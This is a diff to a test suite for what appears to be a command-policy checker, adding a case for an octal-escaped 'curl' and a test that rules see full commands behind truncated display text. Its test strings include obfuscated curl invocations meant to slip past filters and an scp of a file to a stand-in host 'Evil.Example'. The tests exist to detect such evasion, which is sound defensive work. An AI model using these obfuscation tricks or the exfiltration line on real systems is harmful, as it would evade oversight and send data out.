@@ -374,6 +374,7 @@ describe('what was not understood', () => {
     ['cat src/../private/x', { forbid: 'file.read', where: { path: 'private/**' } }],
     ['while true; do c"ur"l x; done', { forbid: 'process.run', where: { program: 'curl' } }],
     ['x=1; /usr/bin/c\\url x', { forbid: 'process.run', where: { program: 'curl' } }],
+    ["if a; then $'\\143url' x; fi", { forbid: 'process.run', where: { program: 'curl' } }],
     ['if a; then git -C . push; fi', { forbid: 'process.run', where: { program: 'git push' } }],
     ['python3.12 -c "x"', { forbid: 'process.run', where: { program: 'python3*' } }],
     ['scp x ana@Evil.Example:/tmp', { forbid: 'net.send', where: { host: 'evil.example' } }],
@@ -383,5 +384,15 @@ describe('what was not understood', () => {
     expect(says([rule], act('process.run', unclear(text, 'contained')))).toEqual(['forbid r0']);
     expect(says([rule], act('process.run', unclear(text, 'external')))).toEqual(['forbid r0']);
     expect(says([rule], act('process.run', unclear('make all', 'external')))).toEqual([]);
+  });
+
+  test('forbids see the whole of a command that was cut to be shown', () => {
+    const command = `for f in *; do ${'x '.repeat(200)}; curl x; done`;
+    const cut = unclear(`${command.slice(0, 200)}…`, 'contained');
+    const curl = { forbid: 'process.run', where: { program: 'curl' } };
+    expect(says([curl], anAction({ kind: 'process.run', effects: [cut], arguments: { command } }))).toEqual([
+      'forbid r0',
+    ]);
+    expect(says([curl], anAction({ kind: 'process.run', effects: [cut] }))).toEqual([]);
   });
 });
